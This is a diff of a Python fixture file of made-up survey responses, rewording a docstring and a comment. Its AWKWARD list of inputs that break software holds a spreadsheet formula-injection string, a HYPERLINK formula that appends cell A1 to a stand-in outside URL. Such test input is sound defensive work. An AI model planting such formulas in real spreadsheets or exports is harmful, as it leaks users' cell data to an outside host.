@@ -1,4 +1,4 @@
-"""What made-up respondents say and are called. Nobody wrote it, and it does nothing."""
+"""What made-up respondents say, and their names. Nobody wrote any of it."""
 
 # A short text by itself, or a sentence in a longer one. {place} is filled in.
 PLAIN = [
@@ -50,7 +50,7 @@ OTHER_SCRIPTS = [
     "Safer streets please 🙏🏾🚲👩‍👩‍👧‍👦 and quicker answers 📞⏳",
     "👍🏽👍🏽👍🏽",
 ]
-# What spreadsheets, pages and programs have stumbled over. None of it does anything here.
+# Texts that have broken spreadsheets, pages and programs. Here they must do nothing.
 AWKWARD = [
     '=HYPERLINK("https://example.invalid/?"&A1,"read more")',
     "=1+1 is how simple it should be",
